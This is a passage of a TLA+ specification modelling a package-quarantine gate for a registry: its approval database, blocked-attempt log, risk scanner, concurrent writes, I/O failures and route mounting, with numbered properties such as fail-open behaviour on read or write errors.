(* The blocked-attempt log near its cap: the log file as n earlier calls of *)
(* logBlockedAttempt left it, then further calls                            *)

earlierAttempts(n) == [i \in 1..n |-> attempt(PkgA, "10.0.0.1", UserAgent, i - 1)]

InitLog ==
  /\ quarantineDir = TRUE
  /\ dbFile = None
  /\ \E n \in (LogCap - 2)..LogCap :
       /\ logFile = Some([attempts |-> earlierAttempts(n)])
       /\ appended = earlierAttempts(n)
       /\ now = n
  /\ last = Called("init", <<>>, "ok")
  /\ scratch = {}
  /\ job = None
  /\ inflight = NoCalls

NextLog ==
  \/ /\ Len(appended) < LogCap + MaxLogSteps
     /\ \E name \in Packages : LogBlockedAttempt(name, "10.0.0.1")
  \/ GetBlockedAttempts

SpecLog == InitLog /\ [][NextLog]_vars

----------------------------------------------------------------------------
(* Properties of the gate and of the approval database *)

packagesOf(file) == loadDb(file).packages
attemptsOf(lf) == loadBlockedAttempts(lf).attempts
gatedFetch(l) == l.op = "fetch" /\ l.seen # "none"
Denied == {NotApproved, UnderReview}

\* C1: the gate calls next() on its decision path only for a package whose
\* stored status is "approved"; a gated fetch of a package in any other state
\* (unseen, pending, rejected, blocked) is answered with a 403.
C1_OnlyApprovedPasses ==
  gatedFetch(last) =>
    /\ last.result = "next" => last.seen = "approved"
    /\ last.seen # "approved" => last.result \in Denied

\* C2: the first gated fetch of a package without a record is denied with a
\* 403, leaves a record with status pending for that package and no other
\* change in the database, and appends exactly one BlockedAttempt, for that
\* package, to the log.
C2_FirstFetchQuarantines ==
  [][ \A p \in Packages :
        (gatedFetch(last') /\ last'.pkg = p /\ packagesOf(dbFile)[p] = None)
        => /\ last'.result \in Denied
           /\ packagesOf(dbFile')[p] # None
           /\ packagesOf(dbFile')[p][1].status = "pending"
           /\ \A q \in Packages \ {p} : packagesOf(dbFile')[q] = packagesOf(dbFile)[q]
           /\ Len(attemptsOf(logFile')) = Len(attemptsOf(logFile)) + 1
           /\ SubSeq(attemptsOf(logFile'), 1, Len(attemptsOf(logFile))) = attemptsOf(logFile)
           /\ attemptsOf(logFile')[Len(attemptsOf(logFile'))].package = p ]_vars

\* a first fetch has been denied, with the record and the log entry in place,
\* while another package already had a record
C2_Witness ==
  /\ gatedFetch(last) /\ last.seen = "unseen" /\ last.result = NotApproved
  /\ packagesOf(dbFile)[last.pkg][1].status = "pending"
  /\ \E q \in Packages \ {last.pkg} : packagesOf(dbFile)[q] # None
  /\ Len(attemptsOf(logFile)) = 1

\* C3: recordPackageRequest on a package that already has a record, whatever
\* its status and whatever requestedBy is passed, leaves the whole approval
\* database unchanged.
C3_RegisterIdempotent ==
  [][ \A p \in Packages :
        (last'.op = "recordPackageRequest" /\ last'.pkg = p /\ packagesOf(dbFile)[p] # None)
        => dbFile' = dbFile ]_vars

\* recordPackageRequest was called with a requestedBy on an approved record
\* that has none
C3_Witness ==
  /\ last.op = "recordPackageRequest" /\ last.arg = Some(Some("alice"))
  /\ packagesOf(dbFile)[last.pkg] # None
  /\ packagesOf(dbFile)[last.pkg][1].status = "approved"
  /\ packagesOf(dbFile)[last.pkg][1].requestedBy = None

\* C4: approvePackage, rejectPackage and updateScanResults on a package without
\* a record fail with the not-found error and leave the database unchanged.
C4_UnknownPackageNotFound ==
  [][ \A p \in Packages :
        (/\ last'.op \in {"approvePackage", "rejectPackage", "updateScanResults"}
         /\ last'.pkg = p
         /\ packagesOf(dbFile)[p] = None)
        => (last'.result = NotFound /\ dbFile' = dbFile) ]_vars

\* an operation on an unknown package has failed while the database holds a
\* record of another package
C4_Witness ==
  /\ last.op \in {"approvePackage", "rejectPackage", "updateScanResults"}
  /\ last.result = NotFound
  /\ packagesOf(dbFile)[last.pkg] = None
  /\ \E q \in Packages : packagesOf(dbFile)[q] # None

\* C5: updateScanResults(name, r) followed at once by getRiskAssessment(name)
\* returns riskScore = r.riskScore, scanResults = r and scannedAt = r.scannedAt.
C5_ScanRoundTrip ==
  [][ (/\ last.op = "updateScanResults" /\ last.result = "ok"
       /\ last'.op = "getRiskAssessment" /\ last'.pkg = last.pkg)
      => /\ last'.result = "ok"
         /\ last'.value[1].riskScore = last.arg[1].riskScore
         /\ last'.value[1].scanResults = last.arg[1]
         /\ last'.value[1].scannedAt = Some(last.arg[1].scannedAt) ]_vars

----------------------------------------------------------------------------
(* Properties of the blocked-attempt log *)

\* C6: after n calls of logBlockedAttempt the log file holds the min(n, 1000)
\* entries appended last, in the order they were appended: never more than
\* 1000, and an append to a full log evicts the oldest entry only.
C6_LogKeepsLastThousand ==
  LET log == attemptsOf(logFile)
      n   == Len(appended)
      k   == IF n < 1000 THEN n ELSE 1000
  IN  /\ Len(log) = k
      /\ \A i \in 1..k : log[i] = appended[n - k + i]

\* more than 1000 entries have been appended and the log holds 1000
C6_Witness ==
  /\ Len(appended) > 1000
  /\ Len(attemptsOf(logFile)) = 1000
  /\ last.op = "logBlockedAttempt"

----------------------------------------------------------------------------
(* The scanner: one call, of scanPackage on an archive or of                *)
(* calculateRiskScore on a list of risks, drawn with its arguments and      *)
(* then served                                                              *)

Severities == {"low", "medium", "high", "critical"}

RiskLists ==
  UNION { [1..n -> { Risk("large-files", sv, "file", "f") : sv \in Severities }]
            : n \in 0..MaxRisks }

ScanCalls ==
  { [op |-> "scanPackage", archive |-> a, name |-> n, risks |-> <<>>]
      : a \in Archives, n \in ScanNames }

ScoreCalls ==
  { [op |-> "calculateRiskScore", archive |-> cleanArchive, name |-> <<>>, risks |-> rs]
      : rs \in RiskLists }

ScanPackage ==
  /\ job # None /\ job[1].op = "scanPackage"
  /\ LET s == scanPackage(job[1].archive, job[1].name, scratch, now) IN
       /\ scratch' = s.dirs
       /\ last' = [Called("scanPackage", job[1].name, s.outcome)
                     EXCEPT !.value = Some(s.results), !.arg = Some(job[1].archive),
                            !.caught = s.caught]
  /\ now' = now + 1
  /\ job' = None
  /\ UNCHANGED <<dbFile, logFile, appended, inflight, quarantineDir>>

CalculateRiskScore ==
  /\ job # None /\ job[1].op = "calculateRiskScore"
  /\ last' = [Called("calculateRiskScore", <<>>, "returned")
                EXCEPT !.value = Some(calculateRiskScore(job[1].risks)),
                       !.arg = Some(job[1].risks)]
  /\ job' = None
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, inflight, quarantineDir>>

InitScan ==
  /\ quarantineDir = TRUE
  /\ dbFile = None
  /\ logFile = None
  /\ now = 0
  /\ last = Called("init", <<>>, "ok")
  /\ appended = <<>>
  /\ scratch = {}
  /\ \E call \in ScanCalls \cup ScoreCalls : job = Some(call)
  /\ inflight = NoCalls

NextScan ==
  \/ ScanPackage
  \/ CalculateRiskScore

SpecScan == InitScan /\ [][NextScan]_vars

----------------------------------------------------------------------------
(* Properties of the scanner *)

scanned == last.op = "scanPackage"

\* C7: the riskScore of the ScanResults scanPackage returns lies in [0,100]
\* whatever signals were detected, and so does the aggregate of any list of
\* risks, which is exactly 100 when the list holds a critical one.
C7_RiskScoreBounded ==
  /\ scanned => last.value[1].riskScore \in 0..100
  /\ last.op = "calculateRiskScore" =>
       /\ last.value[1] \in 0..100
       /\ (\E i \in 1..Len(last.arg[1]) : last.arg[1][i].severity = "critical")
            => last.value[1] = 100

\* a scan has completed whose signals weigh more than 100 together
C7_Witness ==
  /\ scanned /\ last.caught = None
  /\ sumScores(last.value[1].risks, 1) > 100
  /\ last.value[1].riskScore = 100

\* C8: scanPackage returns a ScanResults instead of throwing, whatever fails
\* inside it (extraction, a directory listing, a stat, the cleanup), and the
\* riskScore it returns after such a failure is exactly 100.
C8_ScanNeverThrows ==
  scanned =>
    /\ last.result = "returned"
    /\ last.value # None
    /\ (last.caught # None \/ last.arg[1].fault \in {"mkdir", "tar.extract"})
         => last.value[1].riskScore = 100

\* a stat or a directory listing has failed after detectors found risks that
\* weigh less than 100, and the scan has returned
C8_Witness ==
  /\ scanned /\ last.result = "returned"
  /\ last.caught \in {Some("readdir"), Some("stat")}
  /\ Len(last.value[1].risks) > 1
  /\ sumScores(last.value[1].risks, 1) < 100
  /\ last.value[1].riskScore = 100

\* C9: the risk list of a scan that failed internally is a single signal, of
\* type scan-error and severity critical.
C9_FailedScanSingleCritical ==
  (scanned /\ last.caught # None) =>
    /\ Len(last.value[1].risks) = 1
    /\ last.value[1].risks[1].type = "scan-error"
    /\ last.value[1].risks[1].severity = "critical"

\* C10: when scanPackage has returned, on the success path and on every
\* failure path, the extraction directory of the scan does not exist.
C10_ScratchRemoved ==
  scanned => extractPathOf(last.pkg) \notin scratch

----------------------------------------------------------------------------
(* Concurrent callers of the store: every await of loadDb and of saveDb is  *)
(* a point where another request's handler runs. A call reads the file in   *)
(* one step (loadDb resolving, with the code up to the next await) and      *)
(* writes it in a later one (fs.writeFile landing).                         *)

MaxCallers == 2     \* requests handled at the same time

Callers == 1..MaxCallers

\* a caller's position: idle, registering (getApprovalStatus found no record
\* and has called recordPackageRequest), writing (saveDb was called with
\* content), done
Position(pc, op, pkg, content, result) ==
  [pc |-> pc, op |-> op, pkg |-> pkg, content |-> content, result |-> result]

Idle == Position("idle", "", <<>>, None, "")

\* getApprovalStatus up to its return or its call of recordPackageRequest
GetApprovalStatusLoad(c, name) ==
  /\ inflight[c].pc = "idle"
  /\ LET db == loadDb(dbFile) IN
       inflight' = [inflight EXCEPT ![c] =
         IF db.packages[name] = None
           THEN Position("registering", "getApprovalStatus", name, None, "")
           ELSE Position("done", "getApprovalStatus", name, None, db.packages[name][1].status)]
  /\ last' = Called("getApprovalStatus", name, "ok")
  /\ UNCHANGED <<dbFile, logFile, now, appended, scratch, job, quarantineDir>>

\* recordPackageRequest from its loadDb to its return or its call of saveDb,
\* for a caller at position pos
recordPackageRequestLoad(pos, file, name, by, t) ==
  LET db == loadDb(file) IN
  IF db.packages[name] # None
    THEN Position("done", pos.op, name, None,
                  IF pos.op = "getApprovalStatus" THEN "blocked" ELSE "ok")
    ELSE Position("writing", pos.op, name,
                  saveDb([db EXCEPT !.packages[name] = Some(newRecord(t, by))]), "")

\* recordPackageRequest called by a request of its own
RecordPackageRequestLoad(c, name, by) ==
  /\ inflight[c].pc = "idle"
  /\ LET pos == recordPackageRequestLoad(
                  Position("idle", "recordPackageRequest", name, None, ""),
                  dbFile, name, by, now) IN
       /\ inflight' = [inflight EXCEPT ![c] = pos]
       /\ now' = IF pos.pc = "writing" THEN now + 1 ELSE now
  /\ last' = [Called("recordPackageRequest", name, "ok") EXCEPT !.arg = Some(by)]
  /\ UNCHANGED <<dbFile, logFile, appended, scratch, job, quarantineDir>>

\* recordPackageRequest called by getApprovalStatus
RegisterLoad(c) ==
  /\ inflight[c].pc = "registering"
  /\ LET pos == recordPackageRequestLoad(inflight[c], dbFile, inflight[c].pkg, None, now) IN
       /\ inflight' = [inflight EXCEPT ![c] = pos]
       /\ now' = IF pos.pc = "writing" THEN now + 1 ELSE now
  /\ last' = Called("recordPackageRequest", inflight[c].pkg, "ok")
  /\ UNCHANGED <<dbFile, logFile, appended, scratch, job, quarantineDir>>

\* saveDb merging the caller's record into the file as it is when the write lands
SaveDbMerges(c) ==
  /\ inflight[c].pc = "writing"
  /\ dbFile' = Some([loadDb(dbFile) EXCEPT !.packages[inflight[c].pkg] =
                       inflight[c].content[1].packages[inflight[c].pkg]])
  /\ inflight' = [inflight EXCEPT ![c] =
       Position("done", @.op, @.pkg, None,
                IF @.op = "getApprovalStatus" THEN "blocked" ELSE "ok")]
  /\ last' = Called("saveDb", inflight[c].pkg, "ok")
  /\ UNCHANGED <<logFile, now, appended, scratch, job, quarantineDir>>

\* fs.writeFile of saveDb landing, and the call returning
SaveDb(c) ==
  /\ inflight[c].pc = "writing"
  /\ dbFile' = inflight[c].content
  /\ inflight' = [inflight EXCEPT ![c] =
       Position("done", @.op, @.pkg, None,
                IF @.op = "getApprovalStatus" THEN "blocked" ELSE "ok")]
  /\ last' = Called("saveDb", inflight[c].pkg, "ok")
  /\ UNCHANGED <<logFile, now, appended, scratch, job, quarantineDir>>

InitRace ==
  /\ quarantineDir = TRUE
  /\ dbFile = None
  /\ logFile = None
  /\ now = 0
  /\ last = Called("init", <<>>, "ok")
  /\ appended = <<>>
  /\ scratch = {}
  /\ job = None
  /\ inflight = [c \in Callers |-> Idle]

NextRace ==
  \/ \E c \in Callers, name \in Packages : GetApprovalStatusLoad(c, name)
  \/ \E c \in Callers, name \in Packages, by \in {None, Some("alice")} :
       RecordPackageRequestLoad(c, name, by)
  \/ \E c \in Callers : RegisterLoad(c)
  \/ \E c \in Callers : SaveDb(c)

SpecRace == InitRace /\ [][NextRace]_vars

\* C11: under every interleaving of concurrent getApprovalStatus and
\* recordPackageRequest calls, a record that has been created stays, with the
\* requestedAt its creation wrote: no later creation replaces it.
C11_FirstRegistrationAtomic ==
  [][ \A p \in Packages :
        packagesOf(dbFile)[p] # None
        => /\ packagesOf(dbFile')[p] # None
           /\ packagesOf(dbFile')[p][1].requestedAt = packagesOf(dbFile)[p][1].requestedAt
    ]_vars

----------------------------------------------------------------------------
(* Further properties of the approval database, calls one after the other *)

\* C12: once a package has a record, no call of recordPackageRequest,
\* getApprovalStatus (a fetch), approvePackage, rejectPackage or
\* updateScanResults changes the requestedAt of that record.
C12_RequestedAtImmutable ==
  [][ \A p \in Packages :
        packagesOf(dbFile)[p] # None
        => /\ packagesOf(dbFile')[p] # None
           /\ packagesOf(dbFile')[p][1].requestedAt = packagesOf(dbFile)[p][1].requestedAt
           /\ packagesOf(dbFile')[p][1].requestedAt < now' ]_vars

\* a record created first has been approved and scanned, and then
\* recordPackageRequest was called for it again: it still has its requestedAt
C12_Witness ==
  /\ last.op = "recordPackageRequest" /\ last.arg = Some(Some("alice"))
  /\ packagesOf(dbFile)[last.pkg] # None
  /\ packagesOf(dbFile)[last.pkg][1].status = "approved"
  /\ packagesOf(dbFile)[last.pkg][1].scanResults # None
  /\ packagesOf(dbFile)[last.pkg][1].requestedAt = 0
  /\ now = 3

----------------------------------------------------------------------------
(* The store called with any ScanResults value, not only the ones           *)
(* scanPackage returns: updateScanResults takes the object as it is         *)

\* riskScore is a number in the interface: values inside and outside [0,100]
AnyRiskScores == {0 - 1, 0, 100, 101, 250}

AnyScanResults(name, t) ==
  { [packageName |-> name, scannedAt |-> t, risks |-> <<>>, riskScore |-> n,
     scanDurationMs |-> 0] : n \in AnyRiskScores }

NextApi ==
  \/ (\E name \in Packages : RecordPackageRequest(name, None)) /\ InTime
  \/ (\E name \in Packages : ApprovePackage(name)) /\ InTime
  \/ (\E name \in Packages : \E r \in AnyScanResults(name, now) : UpdateScanResults(name, r))
       /\ InTime
  \/ \E name \in Packages : GetRiskAssessment(name)

SpecApi == Init /\ [][NextApi]_vars

\* C13: in every state of the approval database the riskScore of every
\* record is an integer in [0,100], whatever ScanResults were passed to
\* updateScanResults.
C13_StoredRiskScoreBounded ==
  \A p \in Packages :
    packagesOf(dbFile)[p] # None => packagesOf(dbFile)[p][1].riskScore \in 0..100

----------------------------------------------------------------------------
(* The store and the gate when reads and writes of the two files can fail *)

\* A read fails when fs.readFile rejects ("EACCES") or when JSON.parse throws
\* on what was read ("SyntaxError": a file read while it is being
\* rewritten); the caller's try catches both. A write fails when fs.writeFile
\* rejects before it touches the file ("ENOENT": the directory is missing).
WriteOutcomes == {"ok", "ENOENT"}

IoFaults ==
  [dbRead : {"ok", "SyntaxError"}, dbReadAgain : {"ok", "EACCES"}, dbWrite : WriteOutcomes,
   logRead : {"ok", "EACCES"}, logWrite : WriteOutcomes]

\* io answers the calls in asked and no other
answers(io, asked) == \A f \in DOMAIN io \ asked : io[f] = "ok"

\* the faults a store operation with one read and one write can meet
StoreFaults == { io \in IoFaults : answers(io, {"dbRead", "dbWrite"}) }

\* loadDb when its read ends with outcome read
loadDbIO(file, read) ==
  IF read = "ok" THEN loadDb(file) ELSE [packages |-> NoPackages, version |-> 1]

\* saveDb when its write ends with outcome write: the file afterwards and
\* the error thrown
saveDbIO(file, db, write) ==
  IF write = "ok" THEN [file |-> saveDb(db), threw |-> None]
  ELSE [file |-> file, threw |-> Some(write)]

recordPackageRequestIO(file, name, by, t, read, write) ==
  LET db == loadDbIO(file, read) IN
  IF db.packages[name] # None
    THEN [file |-> file, threw |-> None, stamps |-> 0, wrote |-> FALSE]
    ELSE LET w == saveDbIO(file, [db EXCEPT !.packages[name] = Some(newRecord(t, by))],
                           write)
         IN  [file |-> w.file, threw |-> w.threw, stamps |-> 1, wrote |-> TRUE]

getApprovalStatusIO(file, name, t, io) ==
  LET db == loadDbIO(file, io.dbRead) IN
  IF db.packages[name] = None
    THEN LET r == recordPackageRequestIO(file, name, None, t, io.dbReadAgain, io.dbWrite)
         IN  [file |-> r.file, status |-> IF r.threw = None THEN "blocked" ELSE "",
              threw |-> r.threw, stamps |-> r.stamps,
              asked |-> {"dbRead", "dbReadAgain"}
                          \cup (IF r.wrote THEN {"dbWrite"} ELSE {})]
    ELSE [file |-> file, status |-> db.packages[name][1].status, threw |-> None,
          stamps |-> 0, asked |-> {"dbRead"}]

WriteFailed == "Error: fs.writeFile failed"

\* approvePackage / rejectPackage: status is the status set, field the
\* timestamp field stamped with it
setStatusIO(file, name, t, status, read, write) ==
  LET db == loadDbIO(file, read) IN
  IF db.packages[name] = None
    THEN [file |-> file, result |-> NotFound, stamps |-> 0, asked |-> {"dbRead"}]
    ELSE LET rec == db.packages[name][1]
             set == IF status = "approved"
                      THEN [rec EXCEPT !.status = status, !.approvedAt = Some(t)]
                      ELSE [rec EXCEPT !.status = status, !.rejectedAt = Some(t)]
             w == saveDbIO(file, [db EXCEPT !.packages[name] = Some(set)], write)
         IN  [file |-> w.file,
              result |-> IF w.threw = None THEN "ok" ELSE WriteFailed,
              stamps |-> 1, asked |-> {"dbRead", "dbWrite"}]

approvePackageIO(file, name, t, read, write) ==
  setStatusIO(file, name, t, "approved", read, write)

rejectPackageIO(file, name, t, read, write) ==
  setStatusIO(file, name, t, "rejected", read, write)

loadBlockedAttemptsIO(lf, read) ==
  IF read = "ok" THEN loadBlockedAttempts(lf) ELSE [attempts |-> <<>>]

FailedToLog == "Failed to log blocked attempt"
ErrorChecking == "Error checking approval status for package"

\* logBlockedAttempt without its try and catch
logBlockedAttemptRethrows(lf, name, ip, ua, t, io) ==
  LET logs   == loadBlockedAttemptsIO(lf, io.logRead)
      pushed == Append(logs.attempts, attempt(name, ip, ua, t))
      kept   == IF Len(pushed) > LogCap THEN sliceLast(pushed, LogCap) ELSE pushed
  IN  IF io.logWrite = "ok"
        THEN [log |-> Some([attempts |-> kept]), threw |-> None, errors |-> <<>>]
        ELSE [log |-> lf, threw |-> Some(io.logWrite), errors |-> <<>>]

\* logBlockedAttempt under the faults io: the log file afterwards, the error
\* it throws and the errors it hands to logger.error
logBlockedAttemptIO(lf, name, ip, ua, t, io) ==
  LET logs   == loadBlockedAttemptsIO(lf, io.logRead)
      pushed == Append(logs.attempts, attempt(name, ip, ua, t))
      kept   == IF Len(pushed) > LogCap THEN sliceLast(pushed, LogCap) ELSE pushed
  IN  IF io.logWrite = "ok"
        THEN [log |-> Some([attempts |-> kept]), threw |-> None, errors |-> <<>>]
        ELSE [log |-> lf, threw |-> None, errors |-> <<FailedToLog>>]

\* what a run of the handler leaves: the two files, the response (or next),
\* the status stored before (seen) and the one resolved, the error caught
Handled(file, lf, outcome, seen, name, stamps, logged, resolved, caught, errors, asked) ==
  [file |-> file, log |-> lf, outcome |-> outcome, seen |-> seen, name |-> name,
   stamps |-> stamps, logged |-> logged, resolved |-> resolved, caught |-> caught,
   errors |-> errors, asked |-> asked]

\* the catch block of the handler answering with the denial
interceptorCatchDenies(file, lf, seen, name, stamps, threw, asked) ==
  Handled(file, lf, NotApproved, seen, name, stamps, <<>>, "", threw, <<ErrorChecking>>,
          asked)

\* the catch block of the handler: logger.error, then next()
interceptorCatch(file, lf, seen, name, stamps, threw, asked) ==
  Handled(file, lf, "next", seen, name, stamps, <<>>, "", threw, <<ErrorChecking>>, asked)

\* the handler returned by packageInterceptor(), run on req at time t under
\* the faults io
packageInterceptorIO(req, file, lf, t, io) ==
  IF req.method # "GET" \/ req.admin \/ req.raw = <<>>
    THEN Handled(file, lf, "next", "none", <<>>, 0, <<>>, "", None, <<>>, {})
  ELSE IF malformedURI(req.raw)
    THEN Handled(file, lf, "URIError", "none", <<>>, 0, <<>>, "", None, <<>>, {})
  ELSE
    LET packageName == decodeURIComponent(req.raw)
        got  == getApprovalStatusIO(file, packageName, t, io)
        seen == storedStatus(file, packageName)
        entry == attempt(packageName, ipOrUnknown(req.ip), UserAgent, t + got.stamps)
        lg   == logBlockedAttemptIO(lf, packageName, ipOrUnknown(req.ip), UserAgent,
                                    t + got.stamps, io)
        logAsked == got.asked \cup {"logRead", "logWrite"}
    IN  IF got.threw # None
          THEN interceptorCatch(got.file, lf, seen, packageName, got.stamps, got.threw,
                                got.asked)
        ELSE IF got.status = "blocked"
          THEN (IF lg.threw # None
                  THEN interceptorCatch(got.file, lg.log, seen, packageName,
                                        got.stamps + 1, lg.threw, logAsked)
                  ELSE Handled(got.file, lg.log, NotApproved, seen, packageName,
                               got.stamps + 1,
                               IF io.logWrite = "ok" THEN <<entry>> ELSE <<>>,
                               "blocked", None, lg.errors, logAsked))
        ELSE IF got.status = "pending"
          THEN Handled(got.file, lf, UnderReview, seen, packageName, got.stamps, <<>>,
                       "pending", None, <<>>, got.asked)
        ELSE Handled(got.file, lf, "next", seen, packageName, got.stamps, <<>>,
                     got.status, None, <<>>, got.asked)

\* PUT /approve/:package(*): the response status and the file afterwards
approveEndpoint(raw, file, t, read, write) ==
  IF raw = <<>>
    THEN [file |-> file, status |-> 400, stamps |-> 0, name |-> <<>>, asked |-> {}]
  ELSE IF malformedURI(raw)
    THEN [file |-> file, status |-> 500, stamps |-> 0, name |-> <<>>, asked |-> {}]
  ELSE LET packageName == decodeURIComponent(raw)
           a == approvePackageIO(file, packageName, t, read, write)
       IN  [file |-> a.file, status |-> IF a.result = "ok" THEN 201 ELSE 500,
            stamps |-> a.stamps, name |-> packageName, asked |-> a.asked]

FetchIO(req, io) ==
  LET g == packageInterceptorIO(req, dbFile, logFile, now, io) IN
  /\ answers(io, g.asked)
  /\ dbFile' = g.file
  /\ logFile' = g.log
  /\ now' = now + g.stamps
  /\ appended' = appended \o g.logged
  /\ last' = [Called("fetch", g.name, g.outcome)
                EXCEPT !.seen = g.seen, !.req = Some(req), !.value = Some(g.resolved),
                       !.caught = g.caught, !.io = io, !.errors = g.errors]
  /\ UNCHANGED <<scratch, job, inflight, quarantineDir>>

RecordPackageRequestIO(name, by, io) ==
  LET r == recordPackageRequestIO(dbFile, name, by, now, io.dbRead, io.dbWrite) IN
  /\ answers(io, {"dbRead"} \cup (IF r.wrote THEN {"dbWrite"} ELSE {}))
  /\ dbFile' = r.file
  /\ now' = now + r.stamps
  /\ last' = [Called("recordPackageRequest", name,
                     IF r.threw = None THEN "ok" ELSE WriteFailed)
                EXCEPT !.arg = Some(by), !.caught = r.threw, !.io = io]
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

RejectPackageIO(name, io) ==
  LET r == rejectPackageIO(dbFile, name, now, io.dbRead, io.dbWrite) IN
  /\ answers(io, r.asked)
  /\ dbFile' = r.file
  /\ now' = now + r.stamps
  /\ last' = [Called("rejectPackage", name, r.result) EXCEPT !.io = io]
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

ApproveEndpoint(raw, io) ==
  LET r == approveEndpoint(raw, dbFile, now, io.dbRead, io.dbWrite) IN
  /\ answers(io, r.asked)
  /\ dbFile' = r.file
  /\ now' = now + r.stamps
  /\ last' = [Called("PUT /approve", r.name, "responded")
                EXCEPT !.seen = IF r.name = <<>> THEN "none" ELSE storedStatus(dbFile, r.name),
                       !.value = Some(r.status), !.arg = Some(raw), !.io = io]
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

\* the fetches that reach the gate's decision
GatedRequests == { req \in Requests : req.method = "GET" /\ ~req.admin /\ req.ip # "" }

NextIO ==
  \/ (\E req \in GatedRequests, io \in IoFaults : FetchIO(req, io)) /\ InTime
  \/ (\E name \in Packages, io \in StoreFaults : RecordPackageRequestIO(name, None, io))
       /\ InTime
  \/ (\E name \in Packages, io \in StoreFaults : RejectPackageIO(name, io)) /\ InTime
  \/ (\E raw \in RawNames, io \in StoreFaults : ApproveEndpoint(raw, io)) /\ InTime

SpecIO == Init /\ [][NextIO]_vars

----------------------------------------------------------------------------
(* Properties of the store and the gate under failing reads and writes *)

\* C14: once the persisted approval database holds a record for a package, it
\* holds one in every later state, also when a read of the file fails or
\* yields unparsable content before a later write.
C14_RecordsPermanent ==
  [][ \A p \in Packages :
        packagesOf(dbFile)[p] # None => packagesOf(dbFile')[p] # None ]_vars

\* C17: when resolving the status throws (the registration of an unseen
\* package cannot be written), the handler logs the error and calls next():
\* no 403 is sent and nothing is appended to the blocked-attempt log.
C17_GateFailsOpen ==
  [][ (last'.op = "fetch" /\ last'.caught # None)
      => /\ last'.result = "next"
         /\ last'.errors = <<ErrorChecking>>
         /\ logFile' = logFile
         /\ appended' = appended ]_vars

\* the write of a first registration has failed after an earlier fetch was
\* logged: the fetch went through and the package still has no record
C17_Witness ==
  /\ last.op = "fetch" /\ last.caught = Some("ENOENT")
  /\ last.seen = "unseen" /\ last.result = "next"
  /\ packagesOf(dbFile)[last.pkg] = None
  /\ Len(attemptsOf(logFile)) = 1

\* C18: a gate check during which a read of the approval database fails
\* (unreadable file, unparsable content) logs the error and lets the fetch
\* through.
C18_ReadFailureFailsOpen ==
  (/\ last.op = "fetch"
   /\ (last.io.dbRead # "ok" \/ last.io.dbReadAgain # "ok"))
  => (last.result = "next" /\ last.errors # <<>>)

\* C19: a read or a write of the blocked-attempt log that fails inside
\* logBlockedAttempt is swallowed: nothing is thrown to the handler, which
\* answers the fetch with the 403 "Package not approved".
C19_LogFailureSwallowed ==
  (/\ last.op = "fetch"
   /\ (last.io.logRead # "ok" \/ last.io.logWrite # "ok"))
  => /\ last.result = NotApproved
     /\ last.caught = None
     /\ last.io.logWrite # "ok" => last.errors = <<FailedToLog>>

\* the log could not be written for the first fetch of a package: the fetch
\* was denied, the package registered, and the log is still empty
C19_Witness ==
  /\ last.op = "fetch" /\ last.io.logWrite = "ENOENT"
  /\ last.result = NotApproved /\ last.errors = <<FailedToLog>>
  /\ packagesOf(dbFile)[last.pkg] # None
  /\ attemptsOf(logFile) = <<>>

\* C20: the approve endpoint answers a client error (404-equivalent) when the
\* named package has no record, and 201 when the package has a record, which
\* it then sets to approved.
C20_ApproveEndpointStatus ==
  (last.op = "PUT /approve" /\ last.pkg # <<>>)
  => /\ last.seen = "unseen" => last.value[1] \in 400..499
     /\ (last.seen # "unseen" /\ last.io = NoFaults)
          => /\ last.value[1] = 201
             /\ packagesOf(dbFile)[last.pkg][1].status = "approved"

----------------------------------------------------------------------------
(* Further properties of the gate, calls one after the other *)

\* C15: a gated fetch of a package whose stored status is pending is answered
\* 403 "Package under review", appends nothing to the blocked-attempt log and
\* leaves the approval database as it is.
C15_PendingDeniedWithoutTrace ==
  [][ (gatedFetch(last') /\ last'.seen = "pending")
      => /\ last'.result = UnderReview
         /\ logFile' = logFile
         /\ appended' = appended
         /\ dbFile' = dbFile ]_vars

\* a registered package has been fetched again while pending: the log holds
\* the entry of the first fetch only
C15_Witness ==
  /\ gatedFetch(last) /\ last.seen = "pending" /\ last.result = UnderReview
  /\ packagesOf(dbFile)[last.pkg][1].status = "pending"
  /\ Len(attemptsOf(logFile)) = 1
  /\ attemptsOf(logFile)[1].package = last.pkg

----------------------------------------------------------------------------
(* The plugin as register_middlewares mounts it: the sub-app at             *)
(* /-/quarantine with the routes registered on it, then the handler of      *)
(* packageInterceptor() for every path                                      *)

\* the routes apiRoutes(app) registers on the app it is given
apiRoutes ==
  { <<"GET", "/requests">>, <<"PUT", "/approve">>, <<"GET", "/scan">>, <<"GET", "/blocked">> }

\* what register_middlewares mounts: apiApp is express() with no route
\* registered on it (apiRoutes is not called), scanner is handed to
\* createQuarantineMiddleware, which has no use of it
register_middlewares ==
  [apiApp |-> {}, interceptor |-> TRUE, scannerCalls |-> {}]

\* PUT /-/quarantine/approve/<raw>: apiApp answers when it has the route;
\* without it the request falls through to the next handler mounted, the
\* interceptor, which passes every request that is not a GET on
quarantineApprove(raw, file, lf, t) ==
  IF <<"PUT", "/approve">> \in register_middlewares.apiApp
    THEN LET r == approveEndpoint(raw, file, t, "ok", "ok") IN
         [file |-> r.file, outcome |-> "responded", status |-> Some(r.status),
          stamps |-> r.stamps]
    ELSE LET g == packageInterceptor([method |-> "PUT", admin |-> TRUE, raw |-> raw,
                                      ip |-> "10.0.0.1"], file, lf, t) IN
         [file |-> g.file, outcome |-> g.outcome, status |-> None, stamps |-> g.stamps]

QuarantineApprove(raw) ==
  LET r == quarantineApprove(raw, dbFile, logFile, now)
      name == IF malformedURI(raw) THEN <<>> ELSE decodeURIComponent(raw) IN
  /\ dbFile' = r.file
  /\ now' = now + r.stamps
  /\ last' = [Called("PUT /-/quarantine/approve", name, r.outcome)
                EXCEPT !.seen = IF name = <<>> THEN "none" ELSE storedStatus(dbFile, name),
                       !.value = r.status, !.arg = Some(raw)]
  /\ UNCHANGED <<logFile, appended, scratch, job, inflight, quarantineDir>>

NextPlugin ==
  \/ (\E req \in Requests : Fetch(req)) /\ InTime
  \/ (\E raw \in RawNames : QuarantineApprove(raw)) /\ InTime

SpecPlugin == Init /\ [][NextPlugin]_vars

\* requests keep arriving and each is handled
SpecPluginLive == SpecPlugin /\ WF_vars(NextPlugin)

\* C21: once register_middlewares has run, the administrator's
\* PUT /-/quarantine/approve/{package} for a package that was denied on its
